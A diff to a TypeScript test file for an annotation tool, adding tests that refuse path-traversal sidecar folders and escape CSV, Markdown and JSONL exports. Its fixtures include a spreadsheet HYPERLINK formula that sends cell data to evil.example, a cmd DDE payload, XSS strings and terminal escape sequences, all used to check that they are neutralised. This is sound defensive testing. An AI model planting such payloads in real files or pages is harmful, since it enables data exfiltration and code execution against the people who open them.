@@ -195,16 +195,33 @@ test('sidecar errors name the JSON path; a newer version is refused as such', ()
 });
 
 test('sidecar paths: next to the source, or mirrored under the sidecar folder; the source relative to the sidecar', () => {
-  assert.equal(sidecarPath('/ws/a/b.txt'), '/ws/a/b.txt.annals.json');
-  assert.equal(sidecarPath('/ws/a/b.txt', { workspaceRoot: '/ws/', sidecarFolder: '/.annals/sidecars/' }), '/ws/.annals/sidecars/a/b.txt.annals.json');
-  assert.equal(sidecarPath('/elsewhere/b.txt', { workspaceRoot: '/ws', sidecarFolder: 'side' }), '/elsewhere/b.txt.annals.json');
-  assert.equal(sidecarPath('file:///ws/%E5%8D%97.txt', { workspaceRoot: 'file:///ws', sidecarFolder: 's' }), 'file:///ws/s/%E5%8D%97.txt.annals.json');
+  const at = (source: string, loc?: { workspaceRoot?: string; sidecarFolder?: string }) => {
+    const r = sidecarPath(source, loc);
+    assert.ok(r.ok, !r.ok ? problemText(r.problem) : '');
+    return r.value;
+  };
+  assert.equal(at('/ws/a/b.txt'), '/ws/a/b.txt.annals.json');
+  assert.equal(at('/ws/a/b.txt', { workspaceRoot: '/ws/', sidecarFolder: '/.annals/sidecars/' }), '/ws/.annals/sidecars/a/b.txt.annals.json');
+  assert.equal(at('/elsewhere/b.txt', { workspaceRoot: '/ws', sidecarFolder: 'side' }), '/elsewhere/b.txt.annals.json');
+  // Inside the root means under it: /ws-old is a sibling of /ws, not inside it.
+  assert.equal(at('/ws-old/b.txt', { workspaceRoot: '/ws', sidecarFolder: 'side' }), '/ws-old/b.txt.annals.json');
+  assert.equal(at('file:///ws-old/b.txt', { workspaceRoot: 'file:///ws', sidecarFolder: 'side' }), 'file:///ws-old/b.txt.annals.json');
+  assert.equal(at('file:///ws/%E5%8D%97.txt', { workspaceRoot: 'file:///ws', sidecarFolder: 's' }), 'file:///ws/s/%E5%8D%97.txt.annals.json');
   // A folder name with #, ?, a space or CJK, in a URI: encoded as URI segments; in a path: as is.
   assert.equal(
-    sidecarPath('file:///ws/a.txt', { workspaceRoot: 'file:///ws', sidecarFolder: '标注 #1?/x' }),
+    at('file:///ws/a.txt', { workspaceRoot: 'file:///ws', sidecarFolder: '标注 #1?/x' }),
     'file:///ws/%E6%A0%87%E6%B3%A8%20%231%3F/x/a.txt.annals.json',
   );
-  assert.equal(sidecarPath('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: '标注 #1' }), '/ws/标注 #1/a.txt.annals.json');
+  assert.equal(at('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: '标注 #1' }), '/ws/标注 #1/a.txt.annals.json');
+  // Normalised: `.`, `..` inside, doubled and back slashes; a folder that is the root itself is next to the source.
+  assert.equal(at('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: './x/../side\\inner//' }), '/ws/side/inner/a.txt.annals.json');
+  assert.equal(at('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: 'x/..' }), '/ws/a.txt.annals.json');
+  // Outside the workspace: refused, never normalised into somewhere else.
+  for (const folder of ['..', '../x', 'x/../../y', '..\\y']) {
+    const r = sidecarPath('/ws/a.txt', { workspaceRoot: '/ws', sidecarFolder: folder });
+    assert.ok(!r.ok, folder);
+    assert.equal(r.problem.code, 'sidecarFolderOutside');
+  }
   assert.equal(relativePath('/ws/.annals/sidecars/a', '/ws/a/b.txt'), '../../../a/b.txt');
   assert.equal(relativePath('file:///ws/s', 'file:///ws/%E5%8D%97.txt'), '../南.txt');
 });
@@ -254,11 +271,12 @@ test('auto-tag: regex or plain text, a clear error for a bad pattern, a preview 
   assert.ok(m.ok);
   assert.equal(m.regex.flags, '', 'g is dropped: matching stays stateless');
   const all = findMatches(nanhai.reports, m);
-  assert.ok(all.length >= 3);
+  assert.equal(all.length, 9, 'three paragraphs a year name 复议 (a grep of the feed agrees)');
   assert.ok(all.every((x) => /行政复议|复议/.test(x.text)));
   assert.ok(all.every((x) => x.text.slice(x.match.start, x.match.end).includes('复议')));
   const only2017 = findMatches(nanhai.reports, m, { year: 2017 });
-  assert.ok(only2017.length > 0 && only2017.every((x) => x.report.year === 2017));
+  assert.equal(only2017.length, 3);
+  assert.ok(only2017.every((x) => x.report.year === 2017));
 
   const fs = new MemFs();
   const store = await AnnotationStore.open(fs, '/ws/nanhai.txt', { author: 'script', now: fakeClock() });
@@ -340,7 +358,7 @@ test('export csv: UTF-8 BOM, the listed columns, RFC 4180 quoting, outline title
   const first = rows[0];
   assert.equal(first.year, 2018);
   assert.ok(first.part.startsWith('2018年'), first.part);
-  assert.ok(first.chapter.length > 0);
+  assert.equal(first.chapter, '七、加强法治能力建设,提高政府工作人员法治思维和能力');
   assert.equal(first.text, r2018.paragraphs[chapterI].text);
   assert.ok(csv.includes('"He said ""yes"", then\nleft"'), 'quotes doubled, line break kept inside quotes');
   assert.ok(csv.includes(',数据指标; ghost,'));
@@ -378,6 +396,13 @@ test('export jsonl: one W3C Web Annotation per line, tagging and commenting bodi
     ['TextQuoteSelector', 'TextPositionSelector'],
   );
   assert.equal(a.target.selector[0].exact, rows[0].annotation.target.quote.exact);
+  // The context on the right sides: the text before the quote is the prefix, after it the suffix.
+  const text = r2018.text;
+  const at = text.indexOf(a.target.selector[0].exact);
+  assert.notEqual(a.target.selector[0].prefix, a.target.selector[0].suffix);
+  assert.ok(a.target.selector[0].prefix.length > 0 && a.target.selector[0].suffix.length > 0);
+  assert.ok(text.slice(0, at).endsWith(a.target.selector[0].prefix), 'the prefix is the text before the quote');
+  assert.ok(text.slice(at + a.target.selector[0].exact.length).startsWith(a.target.selector[0].suffix), 'the suffix is the text after it');
   assert.equal(JSON.parse(lines[1]).body.length, 0, 'no tags and no note: an empty body array');
 });
 
@@ -476,4 +501,58 @@ test('the sidecar reader is as strict as the schema: unknown properties, wrong s
     bad((x) => (x.annotations[0].modified = '2026')),
     /modified: “2026” is not an ISO-8601/,
   );
+});
+
+test('CSV: a field a spreadsheet would run as a formula gets an apostrophe first, in every column', () => {
+  assert.equal(csvField('=HYPERLINK("http://evil.example/?"&A1,"click")'), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+  for (const f of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1']) assert.equal(csvField(f)[0] === '"' ? csvField(f)[1] : csvField(f)[0], "'", f);
+  assert.equal(csvField('1+1='), '1+1=', 'only the first character counts');
+  const { anns } = exportFixture();
+  const rows = exportRows([{ source: 'n.txt', imp: nanhai, annotations: [{ ...anns[0], note: '=cmd|"/c calc"!A0', author: '@me' }] }], DEFAULT_CODEBOOK);
+  const csv = toCsv(rows);
+  assert.ok(csv.includes(`,"'=cmd|""/c calc""!A0",'@me,`), csv.split('\r\n')[1]);
+});
+
+test('Markdown export: tag ids, notes and titles come out as text, whatever they hold', () => {
+  const { anns } = exportFixture();
+  const evil = ['x`<img src=x onerror=alert(1)>`', 'y\n# Pwned heading', 'z``\u001b]0;t\u0007'];
+  const rows = exportRows(
+    [
+      {
+        source: 'n.txt',
+        imp: nanhai,
+        annotations: [{ ...anns[0], tags: evil, note: 'line one\n# not a heading\n<script>alert(1)</script> [link](javascript:x) ![i](x)' }],
+      },
+    ],
+    DEFAULT_CODEBOOK,
+  );
+  const md = toMarkdown(rows, DEFAULT_CODEBOOK);
+  const headings = md.split('\n').filter((l) => l.startsWith('#'));
+  assert.deepEqual(
+    headings.map((h) => h.replace(/ — 1$/, '')),
+    [
+      '# Annotations',
+      '## x\\`\\<img src=x onerror=alert(1)\\>\\` (`` x`<img src=x onerror=alert(1)>` ``) — unknown tag',
+      '## y \\# Pwned heading (`y # Pwned heading`) — unknown tag',
+      '## z\\`\\`␛\\]0;t␇ (```z``␛]0;t␇```) — unknown tag',
+    ],
+  );
+  // Raw HTML only inside the tag ids' code spans, which show it as text; everywhere else `<` is escaped.
+  const outsideCode = md.replace(/ \((`+) ?.*? ?\1\) — unknown tag/g, '');
+  assert.doesNotMatch(outsideCode, /(^|[^\\])</m);
+  assert.match(md, /line one \\# not a heading \\<script\\>alert\(1\)\\</);
+  assert.match(md, /\\\[link\\\]\(javascript:x\) \\!\\\[i\\\]\(x\)/);
+  assert.doesNotMatch(md, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+});
+
+test('JSONL export: U+2028, U+2029, NEL U+0085 and U+001E are escaped, so that every reader sees one record per line', () => {
+  const { anns } = exportFixture();
+  const note = 'a\u2028b\u2029c\u0085d\u001ee\u009bf';
+  const rows = exportRows([{ source: 'n.txt', imp: nanhai, annotations: [{ ...anns[0], note }, anns[1]] }], DEFAULT_CODEBOOK);
+  const out = toJsonl(rows);
+  assert.doesNotMatch(out, /[\u2028\u2029\u0085\u001e\u009b]/);
+  assert.ok(out.includes('a\\u2028b\\u2029c\\u0085d\\u001ee\\u009bf'), 'as \\u escapes');
+  const records = out.split(/\r\n|[\n\r\u2028\u2029\u0085\u001e]/).filter(Boolean);
+  assert.equal(records.length, 2);
+  assert.equal(JSON.parse(records[0]).body.at(-1).value, note, 'the note itself is unchanged');
 });
